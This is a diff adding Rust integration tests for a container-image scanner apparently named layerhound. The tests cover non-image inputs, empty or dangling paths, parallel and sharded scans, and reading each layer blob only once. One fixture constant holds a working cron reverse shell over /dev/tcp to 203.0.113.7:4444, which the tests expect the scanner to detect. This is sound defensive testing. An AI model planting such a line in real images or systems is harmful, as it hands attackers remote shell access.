@@ -98,3 +98,236 @@ fn an_xz_or_bzip2_outer_archive_is_bounded_like_gzip() {
         assert!(errors.contains(&format!("limit of {cap} bytes")), "{tool}: {errors}");
     }
 }
+
+#[test]
+fn a_named_path_that_is_not_an_image_is_an_error_and_one_found_in_a_walk_is_skipped() {
+    let dir = tempfile::tempdir().unwrap();
+    let notes = common::build::write_temp(&dir, "notes.txt", b"not an image\n");
+    let bare_layer = common::build::write_temp(&dir, "layer.tar", &common::build::layer_tar(&[("etc/hostname", b"box\n")]));
+    for named in [&notes, &bare_layer] {
+        let (code, report, told) = scan(dir.path(), "named.json", &[named.to_str().unwrap()]);
+        assert_eq!(code, Some(2), "{}: {told}", named.display());
+        assert_eq!(report["complete"], false);
+        assert_eq!(report["skipped"], Value::Array(Vec::new()));
+        let errors = report["inputs"][0]["errors"].to_string();
+        assert!(errors.contains("not an image: "), "{errors}");
+        assert_eq!(report["inputs"][0]["sha256"], common::build::sha(&std::fs::read(named).unwrap()), "the evidence is still identified");
+    }
+    // The same files met in a directory walk are passed over, beside an image that scans clean.
+    let walk = tempfile::tempdir().unwrap();
+    std::fs::copy(&notes, walk.path().join("notes.txt")).unwrap();
+    std::fs::copy(&bare_layer, walk.path().join("layer.tar")).unwrap();
+    std::fs::copy(common::fixtures_dir().join("google-go-containerregistry/hello-world-v25.tar"), walk.path().join("hello.tar")).unwrap();
+    let (code, report, told) = scan(dir.path(), "walk.json", &[walk.path().to_str().unwrap()]);
+    assert_eq!(code, Some(0), "{told}");
+    let skipped: Vec<&str> = report["skipped"].as_array().unwrap().iter().map(|s| s["path"].as_str().unwrap()).collect();
+    assert_eq!(skipped.len(), 2, "{skipped:?}");
+    assert!(skipped.iter().any(|p| p.ends_with("notes.txt")) && skipped.iter().any(|p| p.ends_with("layer.tar")), "{skipped:?}");
+}
+
+#[test]
+fn an_empty_or_unreadable_input_is_never_complete() {
+    let dir = tempfile::tempdir().unwrap();
+    let empty_dir = dir.path().join("nothing-here");
+    std::fs::create_dir(&empty_dir).unwrap();
+    let walk = dir.path().join("estate");
+    std::fs::create_dir(&walk).unwrap();
+    std::fs::write(walk.join("cut-off.tar"), b"").unwrap();
+    let walk_dangling = dir.path().join("estate2");
+    std::fs::create_dir(&walk_dangling).unwrap();
+    std::os::unix::fs::symlink(dir.path().join("gone.tar"), walk_dangling.join("image.tar")).unwrap();
+    let cases: [(&Path, &str); 4] = [
+        (&empty_dir, "no file under this directory"),
+        (&walk, "empty file (0 bytes)"),
+        (&walk.join("cut-off.tar"), "empty file (0 bytes)"),
+        (&walk_dangling, "No such file"),
+    ];
+    for (path, reason) in cases {
+        let (code, report, told) = scan(dir.path(), "report.json", &[path.to_str().unwrap()]);
+        assert_eq!(code, Some(2), "{}: {told}", path.display());
+        assert_eq!(report["complete"], false, "{}", path.display());
+        assert!(report.to_string().contains(reason), "{}: {reason}: {report}", path.display());
+        assert_eq!(report["skipped"], Value::Array(Vec::new()), "{}", path.display());
+    }
+}
+
+const CRON_SHELL: &[u8] = b"* * * * * root bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'\n";
+
+/// An estate: four OCI images over one shared gzip base layer (with a reverse shell in cron),
+/// the docker-archive sample plain and gzipped (the same plain layers in two tarballs), a
+/// tarball cut off half-way, a text file and a bare layer tar.
+fn estate(dir: &Path) -> usize {
+    use common::build::{gzip, layer_tar, oci_archive};
+    let base = layer_tar(&[("etc/cron.d/backup", CRON_SHELL), ("etc/hostname", b"estate\n")]);
+    for i in 0..4 {
+        let top = layer_tar(&[(&format!("app/v{i}.txt"), format!("release {i}\n").as_bytes())]);
+        let image = oci_archive(&[(gzip(&base), base.clone()), (gzip(&top), top)]);
+        std::fs::write(dir.join(format!("app-{i}.tar")), &image).unwrap();
+        if i == 0 {
+            std::fs::write(dir.join("cut-off.tar"), &image[..image.len() / 2]).unwrap();
+        }
+    }
+    std::fs::copy(common::repo_path("samples/webapp.docker.tar"), dir.join("webapp.docker.tar")).unwrap();
+    std::fs::copy(common::repo_path("samples/webapp.docker.tar.gz"), dir.join("webapp.docker.tar.gz")).unwrap();
+    std::fs::write(dir.join("notes.txt"), b"estate inventory\n").unwrap();
+    std::fs::write(dir.join("layer.tar"), layer_tar(&[("etc/motd", b"hi\n")])).unwrap();
+    4
+}
+
+/// The report without what differs between two runs of the same scan: the clock.
+fn timeless(mut report: Value) -> Value {
+    report["started_at"] = Value::Null;
+    report["finished_at"] = Value::Null;
+    report
+}
+
+#[test]
+fn a_directory_of_good_corrupt_and_other_files_is_scanned_in_parallel_and_shared_findings_reach_every_image() {
+    let work = tempfile::tempdir().unwrap();
+    let dir = work.path().join("estate");
+    std::fs::create_dir(&dir).unwrap();
+    let apps = estate(&dir);
+    let (code, report, told) = scan(work.path(), "parallel.json", &["-j", "4", dir.to_str().unwrap()]);
+    assert_eq!(code, Some(2), "the cut-off tarball makes the report incomplete: {told}");
+    let inputs = report["inputs"].as_array().unwrap();
+    let paths: Vec<&str> = inputs.iter().map(|i| i["path"].as_str().unwrap()).collect();
+    let mut sorted = paths.clone();
+    sorted.sort();
+    assert_eq!(paths, sorted, "inputs in path order whatever finished first");
+    assert_eq!(inputs.len(), apps + 3, "{paths:?}");
+    let skipped: Vec<&str> = report["skipped"].as_array().unwrap().iter().map(|s| s["path"].as_str().unwrap()).collect();
+    assert!(skipped.len() == 2 && skipped[0].ends_with("layer.tar") && skipped[1].ends_with("notes.txt"), "{skipped:?}");
+    let cut = inputs.iter().find(|i| i["path"].as_str().unwrap().ends_with("cut-off.tar")).unwrap();
+    assert!(!cut["errors"].as_array().unwrap().is_empty() || !cut["not_scanned"].as_array().unwrap().is_empty(), "{cut}");
+    for i in 0..apps {
+        let app = inputs.iter().find(|input| input["path"].as_str().unwrap().ends_with(&format!("app-{i}.tar"))).unwrap();
+        assert_eq!(app["errors"], Value::Array(Vec::new()), "app-{i}");
+        let image = &app["images"][0];
+        assert_eq!(image["verified"], true, "app-{i}");
+        let shell = image["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|f| f["detector"]["rule"] == "reverse_shell_dev_tcp")
+            .unwrap_or_else(|| panic!("app-{i}: the shared base layer's finding is attributed to this image too"));
+        let location = &shell["locations"][0];
+        assert_eq!((location["path"].as_str(), location["layer"].as_u64()), (Some("/etc/cron.d/backup"), Some(0)), "app-{i}");
+        assert_eq!(location["layer_digest"], image["layers"][0]["digest"]);
+    }
+    let plain = inputs.iter().find(|i| i["path"].as_str().unwrap().ends_with("webapp.docker.tar")).unwrap();
+    let gz = inputs.iter().find(|i| i["path"].as_str().unwrap().ends_with("webapp.docker.tar.gz")).unwrap();
+    assert_eq!(findings_of(plain), findings_of(gz), "the same layers in two tarballs, read once, reported in both");
+    assert!(!findings_of(gz).is_empty());
+    // One input at a time with nothing kept between inputs gives the same report.
+    let (serial_code, serial, _) = scan(work.path(), "serial.json", &["-j", "1", "--max-kept-entries", "0", dir.to_str().unwrap()]);
+    assert_eq!(serial_code, code);
+    assert_eq!(timeless(serial), timeless(report));
+}
+
+/// Counts how often each (layer, entry) reaches the scanner.
+#[derive(Default)]
+struct Counting(std::sync::Mutex<std::collections::HashMap<(String, u32), usize>>);
+
+struct CountingLayer<'a>(&'a Counting);
+
+impl layerhound::layer::ContentSink for Counting {
+    fn layer(&self) -> Box<dyn layerhound::layer::LayerSink + '_> {
+        Box::new(CountingLayer(self))
+    }
+}
+
+impl layerhound::layer::LayerSink for CountingLayer<'_> {
+    fn file(&mut self, location: &layerhound::layer::EntryLocation<'_>, _: &mut dyn std::io::Read) {
+        *self.0 .0.lock().unwrap().entry((location.layer_digest.to_string(), location.entry_index)).or_insert(0) += 1;
+    }
+}
+
+impl layerhound::scan::ContentScan for Counting {
+    fn describe(&self) -> Option<layerhound::scan::ContentScanInfo> {
+        None
+    }
+    fn outcome(&self, _: &str, _: u32) -> Option<std::sync::Arc<layerhound::scan::FileOutcome>> {
+        None
+    }
+    fn rescan_as(&self, _: &layerhound::scan::FileInfo<'_>, _: &[u8]) -> Option<layerhound::scan::FileOutcome> {
+        None
+    }
+    fn scan_fields(&self, _: &[(String, String)]) -> Vec<layerhound::scan::FileOutcome> {
+        Vec::new()
+    }
+    fn show_secrets(&self) -> bool {
+        false
+    }
+    fn meta(&self) -> Option<&layerhound::scan::meta::MetaChecks> {
+        None
+    }
+    fn ioc(&self) -> Option<&layerhound::scan::ioc::IocSet> {
+        None
+    }
+}
+
+#[test]
+fn a_layer_blob_several_tarballs_hold_is_read_once_per_run() {
+    let work = tempfile::tempdir().unwrap();
+    estate(work.path());
+    let reads = |limits: layerhound::limits::Limits| {
+        let counting = Counting::default();
+        let options = layerhound::ScanOptions { limits, ..layerhound::ScanOptions::default() };
+        let report = layerhound::scan(&[work.path().to_path_buf()], &options, &counting, &mut |_| {});
+        assert_eq!(report.inputs.iter().map(|i| i.images.len()).sum::<usize>(), 6, "4 apps and 2 webapp (the cut one has none)");
+        let counts = counting.0.into_inner().unwrap();
+        let base = report.inputs[0].images[0].layers[0].digest.clone().unwrap();
+        (counts.get(&(base, 0)).copied(), counts.values().copied().max())
+    };
+    assert_eq!(reads(layerhound::limits::Limits::default()), (Some(1), Some(1)), "every file of every blob handed over once");
+    let no_reuse = layerhound::limits::Limits { max_kept_entries: 0, ..layerhound::limits::Limits::default() };
+    let (base_reads, _) = reads(no_reuse);
+    assert!(base_reads >= Some(4), "without keeping layers the shared base is read per tarball: {base_reads:?}");
+}
+
+#[test]
+fn shards_merged_equal_one_unsharded_run_byte_for_byte_timestamps_aside() {
+    let work = tempfile::tempdir().unwrap();
+    let dir = work.path().join("estate");
+    std::fs::create_dir(&dir).unwrap();
+    estate(&dir);
+    let dir = dir.to_str().unwrap();
+    let whole = work.path().join("whole.json");
+    let run = layerhound(&["scan", dir, "-o", whole.to_str().unwrap()]);
+    assert_eq!(run.status.code(), Some(2), "{}", stderr(&run));
+    let shards = 3;
+    let mut reports = Vec::new();
+    let mut shard_inputs = 0;
+    for k in 0..shards {
+        let out = work.path().join(format!("shard-{k}.json"));
+        let shard = format!("{k}/{shards}");
+        let run = layerhound(&["scan", "--shard", &shard, dir, "-o", out.to_str().unwrap()]);
+        assert!(matches!(run.status.code(), Some(0..=2)), "{}", stderr(&run));
+        let report: Value = serde_json::from_slice(&std::fs::read(&out).unwrap()).unwrap();
+        shard_inputs += report["inputs"].as_array().unwrap().len();
+        assert!(report["inputs"].as_array().unwrap().len() < 7, "shard {shard} holds part of the estate");
+        reports.push(out.to_str().unwrap().to_string());
+    }
+    assert_eq!(shard_inputs, 7, "every input in exactly one shard");
+    let merged = work.path().join("estate.json");
+    let mut args = vec!["merge"];
+    // In any order.
+    args.extend(reports.iter().rev().map(String::as_str));
+    args.extend(["-o", merged.to_str().unwrap()]);
+    let run = layerhound(&args);
+    assert_eq!(run.status.code(), Some(2), "the estate is incomplete (the cut-off tarball): {}", stderr(&run));
+    let without_clock = |path: &Path| -> String {
+        std::fs::read_to_string(path)
+            .unwrap()
+            .lines()
+            .filter(|line| !line.starts_with("  \"started_at\": ") && !line.starts_with("  \"finished_at\": "))
+            .collect::<Vec<_>>()
+            .join("\n")
+    };
+    let (merged_text, whole_text) = (without_clock(&merged), without_clock(&whole));
+    assert!(merged_text == whole_text, "merged shards differ from the unsharded run:\n{merged_text}\n---\n{whole_text}");
+    // A shard merged twice is refused, not counted twice.
+    let run = layerhound(&["merge", &reports[0], &reports[0]]);
+    assert_eq!(run.status.code(), Some(2));
+    assert!(stderr(&run).contains("more than one report"), "{}", stderr(&run));
+}
